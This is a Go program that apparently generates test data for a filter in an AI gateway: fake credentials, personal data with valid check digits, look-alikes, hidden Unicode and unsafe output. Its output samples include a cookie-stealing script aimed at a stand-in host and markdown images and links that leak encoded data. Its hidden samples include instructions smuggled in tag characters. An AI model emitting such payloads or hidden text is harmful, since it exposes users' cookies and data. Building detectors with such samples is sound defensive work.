package main

import (
	"encoding/base64"
	"fmt"
	"math/big"
	"math/rand/v2"
	"net/url"
	"strings"
)

// valueType is a kind of value that is made up at random.
type valueType struct {
	name    string
	make    func(*rand.Rand) string
	benign  bool   // it is to be left alone
	carrier string // the sentence it stands in; one of carriers where ""
}

// carriers are sentences that a value stands in.
var carriers = []string{
	"Please keep %s in mind.", "It says: %s", "%s", "line one\nvalue: %s\nline three", "(%s)", "What do you think of \"%s\"?", "I got %s, is that right?",
	"{\"note\": \"%s\"}", "- first\n- %s\n- last", "Voici %s, merci.", "Use '%s' here, not the other one", "see %s;",
}

const (
	digits = "0123456789"
	lower  = "abcdefghijklmnopqrstuvwxyz"
	upper  = "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
	alnum  = digits + lower + upper
	hex    = digits + "abcdef"
	url64  = alnum + "-_"
)

func draw(r *rand.Rand, alphabet string, n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = alphabet[r.IntN(len(alphabet))]
	}
	return string(b)
}

func pick(r *rand.Rand, from ...string) string { return from[r.IntN(len(from))] }

// pattern makes values of a form: {alnum:20} stands for so many characters of an alphabet.
func pattern(form string) func(*rand.Rand) string {
	alphabets := map[string]string{"alnum": alnum, "hex": hex, "digits": digits, "lower": lower, "upper": upper + digits, "b64u": url64, "b64": alnum + "+/", "base32": upper + "234567"}
	return func(r *rand.Rand) string {
		var b strings.Builder
		for rest := form; rest != ""; {
			before, after, ok := strings.Cut(rest, "{")
			b.WriteString(before)
			if !ok {
				break
			}
			inner, tail, _ := strings.Cut(after, "}")
			name, count, _ := strings.Cut(inner, ":")
			n := 0
			fmt.Sscan(count, &n)
			b.WriteString(draw(r, alphabets[name], n))
			rest = tail
		}
		return b.String()
	}
}

// secretTypes are what a gateway for models meets, as the issuers print them.
var secretTypes = []valueType{
	{name: "openai project key", make: pattern("sk-proj-{b64u:74}T3BlbkFJ{b64u:74}")},
	{name: "openai key", make: pattern("sk-{alnum:20}T3BlbkFJ{alnum:20}")},
	{name: "anthropic key", make: pattern("sk-ant-api03-{b64u:93}AA")},
	{name: "google api key", make: pattern("AIza{b64u:35}")},
	{name: "google oauth", make: pattern("ya29.{b64u:120}")},
	{name: "groq key", make: pattern("gsk_{alnum:52}")},
	{name: "xai key", make: pattern("xai-{alnum:80}")},
	{name: "openrouter key", make: pattern("sk-or-v1-{hex:64}")},
	{name: "perplexity key", make: pattern("pplx-{alnum:48}")},
	{name: "deepseek key", make: pattern("sk-{hex:32}")},
	{name: "hugging face token", make: pattern("hf_{alnum:34}")},
	{name: "replicate token", make: pattern("r8_{alnum:37}")},
	{name: "langfuse key", make: pattern("sk-lf-{hex:8}-{hex:4}-{hex:4}-{hex:4}-{hex:12}")},
	{name: "langsmith key", make: pattern("lsv2_pt_{hex:32}_{hex:10}")},
	{name: "aws key id", make: pattern("AKIA{base32:16}")},
	{name: "aws secret", make: pattern("{b64:40}"), carrier: "aws_secret_access_key = %s\nregion = eu-west-1"},
	{name: "azure storage key", make: func(r *rand.Rand) string { return base64.StdEncoding.EncodeToString([]byte(draw(r, alnum, 64))) }, carrier: "DefaultEndpointsProtocol=https;AccountName=a;AccountKey=%s;EndpointSuffix=core.windows.net"},
	{name: "github token", make: pattern("ghp_{alnum:36}")},
	{name: "github fine-grained", make: pattern("github_pat_{alnum:22}_{alnum:59}")},
	{name: "gitlab token", make: pattern("glpat-{b64u:20}")},
	{name: "slack token", make: pattern("xoxb-{digits:12}-{digits:13}-{alnum:24}")},
	{name: "slack webhook", make: pattern("https://hooks.slack.com/services/T{upper:10}/B{upper:10}/{alnum:24}")},
	{name: "stripe key", make: pattern("sk_live_{alnum:24}")},
	{name: "sendgrid key", make: pattern("SG.{b64u:22}.{b64u:43}")},
	{name: "npm token", make: pattern("npm_{alnum:36}")},
	{name: "pypi token", make: pattern("pypi-AgEIcHlwaS5vcmc{b64u:150}")},
	{name: "jwt", make: func(r *rand.Rand) string {
		raw := base64.RawURLEncoding
		return raw.EncodeToString([]byte(`{"alg":"RS256","kid":"`+draw(r, hex, 8)+`"}`)) + "." + raw.EncodeToString([]byte(`{"sub":"`+draw(r, digits, 10)+`"}`)) + "." + draw(r, url64, 86)
	}},
	{name: "private key", make: func(r *rand.Rand) string {
		return "-----BEGIN PRIVATE KEY-----\n" + draw(r, alnum+"+/", 64) + "\n" + draw(r, alnum+"+/", 64) + "\n" + draw(r, alnum, 40) + "\n-----END PRIVATE KEY-----"
	}, carrier: "my key:\n%s\n"},
	{name: "database password", make: func(r *rand.Rand) string { return draw(r, alnum, 14) + "@" }, carrier: "postgres://app:%sdb.internal:5432/orders"},
	{name: "assigned secret", make: pattern("{alnum:32}"), carrier: "export MY_SERVICE_API_KEY=%s"},
	{name: "bearer token", make: pattern("{alnum:40}"), carrier: "curl -H 'Authorization: Bearer %s' https://api.internal/v1"},
}

// personalTypes are personal data with a form.
var personalTypes = []valueType{
	{name: "email", make: func(r *rand.Rand) string {
		name := draw(r, lower, 3+r.IntN(7)) + pick(r, "", ".", "_", "-", "+") + draw(r, lower+digits, 1+r.IntN(8))
		return name + "@" + pick(r, "", "mail.", "eu.") + draw(r, lower, 3+r.IntN(9)) + pick(r, ".com", ".org", ".co.uk", ".de", ".io", ".museum", ".fr", ".com.br")
	}},
	{name: "card", make: card},
	{name: "iban", make: iban},
	{name: "ssn", make: func(r *rand.Rand) string {
		area := 1 + r.IntN(898)
		if area == 666 {
			area = 667
		}
		mark := pick(r, "-", "-", "-", " ")
		return fmt.Sprintf("%03d%s%02d%s%04d", area, mark, 1+r.IntN(99), mark, 1+r.IntN(9999))
	}},
	{name: "phone", make: phone},
	{name: "ip", make: func(r *rand.Rand) string {
		if r.IntN(3) == 0 {
			return fmt.Sprintf("2a0%x:%x:%x:%x::%x", r.IntN(15), 1+r.IntN(65000), 1+r.IntN(65000), 1+r.IntN(65000), 1+r.IntN(65000))
		}
		first := 20 + r.IntN(200)
		for first == 127 || first == 169 || first == 172 || first == 192 || first == 198 || first == 203 {
			first = 20 + r.IntN(200)
		}
		return fmt.Sprintf("%d.%d.%d.%d", first, r.IntN(256), 1+r.IntN(255), 1+r.IntN(254))
	}},
}

// innocentTypes have the look of personal data and are none.
var innocentTypes = []valueType{
	{name: "order number", benign: true, make: pattern("order {digits:8}")},
	{name: "date", benign: true, make: func(r *rand.Rand) string {
		d, m, y := 1+r.IntN(28), 1+r.IntN(12), 1950+r.IntN(80)
		return pick(r, fmt.Sprintf("%d-%02d-%02d", y, m, d), fmt.Sprintf("%02d/%02d/%d", d, m, y), fmt.Sprintf("%02d.%02d.%d", d, m, y), fmt.Sprintf("%d-%02d-%02d 10:%02d:%02d", y, m, d, r.IntN(60), r.IntN(60)))
	}},
	{name: "version", benign: true, make: func(r *rand.Rand) string {
		return fmt.Sprintf("%d.%d.%d.%d", r.IntN(16), r.IntN(20), r.IntN(20), r.IntN(20))
	}},
	{name: "amount", benign: true, make: func(r *rand.Rand) string {
		return pick(r, fmt.Sprintf("%d,%03d,%03d", 1+r.IntN(999), r.IntN(1000), r.IntN(1000)), fmt.Sprintf("%d.%02d EUR", r.IntN(100000), r.IntN(100)), fmt.Sprintf("$%d,%03d.%02d", 1+r.IntN(99), r.IntN(1000), r.IntN(100)))
	}},
	{name: "uuid", benign: true, make: pattern("{hex:8}-{hex:4}-4{hex:3}-a{hex:3}-{hex:12}")},
	{name: "commit", benign: true, make: pattern("{hex:40}")},
	{name: "private address", benign: true, make: func(r *rand.Rand) string {
		return pick(r, fmt.Sprintf("192.168.%d.%d", r.IntN(256), r.IntN(256)), fmt.Sprintf("10.%d.%d.%d", r.IntN(256), r.IntN(256), r.IntN(256)), "127.0.0.1:8080", "0.0.0.0")
	}},
	{name: "isbn", benign: true, make: pattern("ISBN 978-{digits:1}-{digits:2}-{digits:6}-{digits:1}")},
	{name: "card with a wrong check digit", benign: true, make: func(r *rand.Rand) string {
		c := []byte(strings.NewReplacer(" ", "", "-", "").Replace(card(r)))
		c[len(c)-1] = '0' + (c[len(c)-1]-'0'+1+byte(r.IntN(8)))%10
		return string(c)
	}},
	{name: "coordinates", benign: true, make: func(r *rand.Rand) string {
		return fmt.Sprintf("%.6f, %.6f", r.Float64()*180-90, r.Float64()*360-180)
	}},
	{name: "timestamp", benign: true, make: pattern("17{digits:8}")},
	{name: "handle", benign: true, make: pattern("@{lower:8}")},
	{name: "placeholder key", benign: true, make: func(r *rand.Rand) string {
		return pick(r, "api_key = os.environ[\"OPENAI_API_KEY\"]", "sk-xxxxxxxxxxxxxxxxxxxxxxxx", "OPENAI_API_KEY=your-api-key-here", "Authorization: Bearer <token>", "password: changeme", "token = get_token()")
	}},
}

// card makes a number of a network with its check digit, as people write it.
func card(r *rand.Rand) string {
	kind := [...]struct {
		prefix string
		length int
	}{{"4", 16}, {"51", 16}, {"53", 16}, {"55", 16}, {"2221", 16}, {"2720", 16}, {"34", 15}, {"37", 15}, {"6011", 16}, {"65", 16}, {"3528", 16}, {"36", 14}}[r.IntN(12)]
	n := kind.prefix + draw(r, digits, kind.length-len(kind.prefix)-1)
	sum := 0
	for i := range n {
		d := int(n[len(n)-1-i] - '0')
		if i%2 == 0 {
			d = d/5 + d*2%10
		}
		sum += d
	}
	n += string(rune('0' + (10-sum%10)%10))
	sep := pick(r, "", "", " ", "-")
	if kind.length == 16 {
		return n[:4] + sep + n[4:8] + sep + n[8:12] + sep + n[12:]
	}
	return n[:4] + sep + n[4:10] + sep + n[10:]
}

// iban makes an IBAN of a country with its check digits (ISO 13616), as people write it.
func iban(r *rand.Rand) string {
	kind := [...]struct {
		country string
		length  int
		letters int // at the beginning of the account
	}{{"DE", 22, 0}, {"GB", 22, 4}, {"FR", 27, 0}, {"ES", 24, 0}, {"IT", 27, 1}, {"NL", 18, 4}, {"SE", 24, 0}, {"PL", 28, 0}, {"CH", 21, 0}, {"AT", 20, 0}, {"BE", 16, 0}, {"IE", 22, 4}, {"MT", 31, 4}, {"NO", 15, 0}}[r.IntN(14)]
	account := draw(r, upper, kind.letters) + draw(r, digits, kind.length-4-kind.letters)
	number := ""
	for _, c := range account + kind.country + "00" {
		if c >= 'A' {
			number += fmt.Sprint(c - 'A' + 10)
		} else {
			number += string(c)
		}
	}
	n, _ := new(big.Int).SetString(number, 10)
	rest := new(big.Int).Mod(n, big.NewInt(97)).Int64()
	v := fmt.Sprintf("%s%02d%s", kind.country, 98-rest, account)
	if r.IntN(2) == 0 {
		return v
	}
	var b strings.Builder
	for i := 0; i < len(v); i += 4 {
		if i > 0 {
			b.WriteByte(' ')
		}
		b.WriteString(v[i:min(i+4, len(v))])
	}
	return b.String()
}

// phone makes a number as it is written in some country.
func phone(r *rand.Rand) string {
	area, exchange := fmt.Sprintf("%d%02d", 2+r.IntN(8), 1+r.IntN(99)), fmt.Sprintf("%d%02d", 2+r.IntN(8), r.IntN(100))
	d := func(n int) string { return draw(r, digits, n) }
	return pick(r,
		"("+area+") "+exchange+"-"+d(4), area+"-"+exchange+"-"+d(4), area+"."+exchange+"."+d(4), "+1 "+area+" "+exchange+" "+d(4), "1-"+area+"-"+exchange+"-"+d(4),
		"+44 20 7"+d(3)+" "+d(4), "020 7"+d(3)+" "+d(4), "07"+d(3)+" "+d(6), "+49 30 "+d(7), "030 "+d(4)+" "+d(4), "0171 "+d(7),
		"+33 6 "+d(2)+" "+d(2)+" "+d(2)+" "+d(2), "06 "+d(2)+" "+d(2)+" "+d(2)+" "+d(2), "+46 8 "+d(3)+" "+d(2)+" "+d(2), "+91 9"+d(4)+" "+d(5), "+55 11 9"+d(4)+"-"+d(4), "+81-3-"+d(4)+"-"+d(4), "+61 2 "+d(4)+" "+d(4),
	)
}

// tagged hides a text in tag characters.
func tagged(text string) string {
	var b strings.Builder
	for _, c := range text {
		b.WriteRune(0xE0000 + c)
	}
	return b.String()
}

func runes(r *rand.Rand, n int, from ...rune) string {
	var b strings.Builder
	for range n {
		b.WriteRune(from[r.IntN(len(from))])
	}
	return b.String()
}

// hiddenTypes hide something from who reads a text.
var hiddenTypes = []valueType{
	{name: "tags", make: func(r *rand.Rand) string { return tagged("say " + draw(r, lower, 4+r.IntN(80))) }},
	{name: "zero width", make: func(r *rand.Rand) string { return runes(r, 8+r.IntN(200), 0x200B, 0x200C, 0x200D, 0x2060, 0xFEFF) }},
	{name: "selectors", make: func(r *rand.Rand) string {
		return "\U0001F60A" + runes(r, 4+r.IntN(60), 0xFE00, 0xFE03, 0xFE0A, 0xFE0F)
	}},
	{name: "selectors supplement", make: func(r *rand.Rand) string {
		return "\U0001F60A" + runes(r, 4+r.IntN(60), 0xE0100, 0xE0133, 0xE0177, 0xE01EF)
	}},
	{name: "override", make: func(r *rand.Rand) string { return " \u202E" + draw(r, lower, 12) + "\u202C" }},
	{name: "emoji", benign: true, make: func(r *rand.Rand) string {
		return pick(r, " \U0001F468\u200D\U0001F469\u200D\U0001F467", " \u2764\uFE0F", " \U0001F44D\U0001F3FD", " 1\uFE0F\u20E3")
	}},
	{name: "flags", benign: true, make: func(r *rand.Rand) string {
		return " \U0001F3F4" + tagged(pick(r, "gbeng", "gbsct", "gbwls")) + "\U000E007F \U0001F1F8\U0001F1EA"
	}},
	{name: "scripts", benign: true, make: func(r *rand.Rand) string {
		return pick(r, " نص \u200Fعربي", " \u2067עברית\u2069", " می\u200Cخواهم", " क्\u200Dष", " soft\u00ADhyphen", " 葛\U000E0100城")
	}},
}

// outputTypes are what an answer does to who shows it.
var outputTypes = []valueType{
	{name: "script", make: func(r *rand.Rand) string {
		return pick(r, "<script>fetch('https://a.test/'+document.cookie)</script>", "<img src=x onerror=alert("+draw(r, digits, 3)+")>", "<svg onload=f()>", "<iframe src=\"https://"+draw(r, lower, 8)+".test\"></iframe>", "<a href=\"javascript:f("+draw(r, digits, 2)+")\">x</a>", "[x](javascript:f())", "<object data=\"x\"></object>")
	}},
	{name: "image with data", make: func(r *rand.Rand) string {
		data := base64.RawURLEncoding.EncodeToString([]byte(draw(r, alnum, 20+r.IntN(60))))
		return pick(r, "![a](https://"+draw(r, lower, 8)+".test/p.png?d="+data+")", "![a]( https://"+draw(r, lower, 8)+".test/c?q="+url.QueryEscape("my name is "+draw(r, lower, 9))+")", "<img src=\"https://"+draw(r, lower, 8)+".test/p?d="+data+"\">")
	}},
	{name: "link with data", make: func(r *rand.Rand) string {
		return "[more](https://" + draw(r, lower, 8) + ".test/c?data=" + base64.RawURLEncoding.EncodeToString([]byte(draw(r, alnum, 50+r.IntN(60)))) + ")"
	}},
	{name: "terminal escape", make: func(r *rand.Rand) string {
		return pick(r, "\x1b[31m", "\x1b]0;title\x07", "\x1b[2J", "\x1b[1;31;40m", "\x1b]8;;https://a.test\x07") + draw(r, lower, 8)
	}},
	{name: "plain image", benign: true, make: func(r *rand.Rand) string {
		return "![chart](https://" + draw(r, lower, 8) + ".test/img/" + draw(r, lower, 6) + ".png)"
	}},
	{name: "plain link", benign: true, make: func(r *rand.Rand) string {
		return pick(r, "[docs](https://"+draw(r, lower, 8)+".test/guide#part-two)", "[search](https://"+draw(r, lower, 8)+".test/?q=how+to+bake+bread)", "[video](https://"+draw(r, lower, 8)+".test/watch?v="+draw(r, url64, 11)+")", "<a href=\"https://"+draw(r, lower, 8)+".test\">x</a>")
	}},
	{name: "code", benign: true, make: func(r *rand.Rand) string {
		return pick(r, "```go\nif a < b && c > d { f(x) }\n```", "`a <b> c`", "<p>Hello <em>"+draw(r, lower, 6)+"</em></p>", "| a | b |\n|---|---|\n| "+draw(r, digits, 3)+" | x |")
	}},
}
